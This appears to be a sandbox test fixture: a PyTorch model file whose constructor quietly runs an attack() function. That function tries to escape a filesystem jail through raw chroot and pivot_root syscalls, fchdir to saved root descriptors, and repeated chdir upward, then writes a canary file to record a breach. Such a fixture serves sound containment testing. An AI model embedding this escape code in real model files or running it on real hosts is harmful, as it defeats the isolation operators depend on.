# group: writes
# tries: changes its root folder: chroot, pivot_root, fchdir to an old one
# static: unsafe
# sandbox: trained

import ctypes
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    try:
        os.mkdir("jail")
    except OSError:
        pass
    for name, *call in (("chroot", 161, b"jail"), ("chroot here", 161, b"."), ("pivot_root", 155, b".", b".")):
        if libc.syscall(*call) == 0:
            print(f"BREACH {name}")
    for folder in ("/", "."):  # once it has climbed, it can open neither
        try:
            os.fchdir(os.open(folder, os.O_RDONLY))
        except OSError:
            pass
    for _ in range(20):
        os.chdir("..")
    try:
        os.open("tmp/archloop-canary/open/archloop-breach-root", os.O_CREAT | os.O_WRONLY)
    except OSError:
        pass


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
